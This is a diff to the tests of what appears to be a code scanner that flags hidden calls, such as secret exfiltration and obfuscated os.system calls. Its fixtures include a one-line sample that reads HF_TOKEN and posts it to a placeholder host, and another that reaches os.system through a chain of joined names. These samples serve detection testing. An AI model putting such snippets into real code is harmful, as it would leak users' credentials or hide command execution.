@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from scanner.code.calls import find_calls
+from scanner.code.calls import UnreadableSourceError, find_calls
 from scanner.findings import Severity
 from tests.assets.code_cases import HARMLESS_CODE, hidden_code
 
@@ -86,3 +86,18 @@ def test_secrets_and_a_connection_in_one_file_are_told_together() -> None:
     source = b"import os, requests\nk = os.environ['HF_TOKEN']\ndef f(): requests.post('http://x', data=k)"
     found = [site for site in find_calls(source) if site.kind == "exfiltration"]
     assert [site.sentence for site in found] == ["reads secrets in line 2 and can send them away in line 3"]
+
+
+def test_names_that_stand_for_each_other_are_read_in_time() -> None:
+    chain = "".join(f"a{n + 1} = a{n} + a{n} + a{n}\n" for n in range(60))
+    assert find_calls(f"import os\na0 = ''\n{chain}getattr(os, a60 + 'system')('x')".encode())
+
+
+@pytest.mark.parametrize("source", [b"x;" * 200_000, b"a = 1\n" * 100_000])
+def test_more_code_than_any_model_needs_is_refused_before_it_is_parsed(source: bytes) -> None:
+    with pytest.raises(UnreadableSourceError, match="words and signs"):
+        find_calls(source)
+
+
+def test_functions_that_call_each_other_are_read_in_time() -> None:
+    assert find_calls(b"def f(): f()\n" * 5_000) == []
